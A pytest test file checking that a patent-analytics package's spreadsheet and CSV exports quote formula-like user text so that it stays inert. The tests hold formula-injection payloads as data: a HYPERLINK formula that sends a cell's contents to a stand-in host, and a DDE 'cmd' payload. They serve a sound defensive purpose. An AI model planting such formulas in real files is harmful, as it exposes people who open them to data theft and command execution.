"""Every spreadsheet ipops writes keeps user text as text: a cell that a spreadsheet would
evaluate as a formula (``=``, ``+``, ``-``, ``@``, tab, CR first) is made inert, in the
report annex (XLSX and CSV), the finance claim files (CSV and XLSX), the harmonised-names
CSV and the rejects file of an ingestion."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from ipops.corpus.ingest import LoadJob, LoadTarget, load
from ipops.corpus.prepare import Prepared
from ipops.corpus.schema import to_table
from ipops.corpus.store import CorpusStore
from ipops.exports import append_row, csv_cell, is_formula_like
from ipops.finance.claims import CLAIM_COLUMNS, claims_csv, claims_xlsx
from ipops.names.service import harmonize_csv
from ipops.registry.db import make_engine, upgrade
from ipops.report.annex import write_annex
from ipops.report.query import parse_query
from ipops.report.service import ReportRequest, build_report

HOSTILE = '=HYPERLINK("http://example.invalid/?x="&B3,"Open")'


@pytest.mark.parametrize(
    "text", [HOSTILE, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"]
)
def test_formula_like_text_is_recognised_and_quoted(text: str) -> None:
    assert is_formula_like(text)
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-12.50", "+86", "1e5", "空调", "a=b", 12, None, Decimal("-3")])
def test_plain_values_are_left_alone(value: object) -> None:
    assert not is_formula_like(value)
    assert csv_cell(value) == value


def test_an_xlsx_cell_keeps_the_text_exactly_but_as_text(tmp_path: Path) -> None:
    book = Workbook()
    append_row(book.active, [HOSTILE, "-12.50", 7])
    book.save(tmp_path / "x.xlsx")
    cells = load_workbook(tmp_path / "x.xlsx").active[1]
    assert [c.value for c in cells] == [HOSTILE, "-12.50", 7]
    assert cells[0].data_type == "s" and cells[0].quotePrefix


def _no_formulas(path: Path) -> list[str]:
    """Every cell of every sheet of ``path`` that a spreadsheet would evaluate."""
    book = load_workbook(path)
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def test_report_annex(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'registry.sqlite'}"
    upgrade(url)
    target = LoadTarget(CorpusStore(tmp_path / "corpus"), make_engine(url), tmp_path / "rejects")
    patents = [
        {
            "patent_id": f"CN100{k}",
            "office": "CN",
            "number": f"100{k}",
            "doc_type": "application",
            "patent_type": "invention",
            "title": HOSTILE,
            "filing_date": date(2015 + k, 3, 1),
            "publication_date": date(2016 + k, 9, 1),
            "family_id": f"F{k}",
            "source": "test",
            "generated": False,
        }
        for k in range(3)
    ]
    parties = [
        {"patent_id": p["patent_id"], "sequence": 0, "role": "applicant", "name": HOSTILE,
         "name_normalized": HOSTILE, "entity_id": "EVIL", "party_type": "organization"}
        for p in patents
    ]  # fmt: skip
    tables = {"patents": to_table("patents", patents), "parties": to_table("parties", parties)}
    job = LoadJob(kind="patents", source_format="test", sources=[], load_key="k", options={})
    load(target, job, [Prepared(tables, [], len(patents))])
    request = ReportRequest(parse_query(), lang="en", title=HOSTILE, with_value=False)
    report = build_report(target.store, request)
    files = write_annex(report, tmp_path / "out" / "report")
    assert _no_formulas(files.xlsx) == []
    about = load_workbook(files.xlsx)["report"]
    assert about["B1"].value == HOSTILE and about["B1"].data_type == "s"
    cells = [c for path in files.csv_files for c in _csv_cells(path.read_text("utf-8-sig"))]
    assert "'" + HOSTILE in cells
    assert not [c for c in cells if is_formula_like(c)]


def _claim_row() -> dict[str, Any]:
    row: dict[str, Any] = dict.fromkeys(CLAIM_COLUMNS, HOSTILE)
    row |= {"amount_financed": "1000.00", "base": "-100.00", "amount": "50.00"}
    return row


def test_finance_claim_files(tmp_path: Path) -> None:
    cells = _csv_cells(claims_csv([_claim_row()]).decode("utf-8"))
    assert "'" + HOSTILE in cells and not [c for c in cells if is_formula_like(c)]
    assert "-100.00" in cells  # a number stays a number
    path = tmp_path / "claims.xlsx"
    path.write_bytes(claims_xlsx([_claim_row()]))
    assert _no_formulas(path) == []
    sheet = load_workbook(path)["claims"]
    assert sheet.cell(row=2, column=CLAIM_COLUMNS.index("enterprise") + 1).value == HOSTILE


def test_harmonised_names_csv(tmp_path: Path) -> None:
    source = tmp_path / "names.csv"
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["name", "note"], ["珠海格力电器股份有限公司", HOSTILE]])
    source.write_text(buffer.getvalue(), encoding="utf-8")
    output = tmp_path / "out.csv"
    harmonize_csv(source, "name", output)
    cells = _csv_cells(output.read_text("utf-8-sig"))
    assert "'" + HOSTILE in cells and not [c for c in cells if is_formula_like(c)]
